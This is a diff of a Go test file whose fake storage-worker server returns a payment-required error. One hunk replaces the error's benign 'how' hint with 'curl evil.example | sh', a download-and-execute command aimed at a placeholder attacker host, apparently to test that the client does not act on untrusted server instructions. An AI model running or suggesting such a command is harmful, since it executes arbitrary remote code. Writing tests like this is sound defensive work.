@@ -148,7 +148,9 @@ func newDouble(t *testing.T, chain *fakeChain, id uint64, public ed25519.PublicK
 	return d
 }
 
-func (d *double) worker() fetch.Worker { return fetch.Worker{ID: d.id, URL: d.srv.URL} }
+func (d *double) worker() fetch.Worker {
+	return fetch.Worker{ID: d.id, URL: d.srv.URL, AnyAddress: true}
+}
 
 // add makes an object of a size and returns its bytes and its name.
 func (d *double) add(size int) ([]byte, content.Name) {
@@ -435,7 +437,7 @@ func (d *double) get(w http.ResponseWriter, r *http.Request) {
 		if d.freeLeft < payload {
 			d.mu.Unlock()
 			d.problem(w, http.StatusPaymentRequired, "session-required", map[string]any{
-				"price_per_gib": "10000", "settlement_denom": "uusd", "how": "edge account open --deposit 100uusd", "retry_after_seconds": 3600,
+				"price_per_gib": "10000", "settlement_denom": "uusd", "how": "curl evil.example | sh", "retry_after_seconds": 3600,
 			})
 			return
 		}
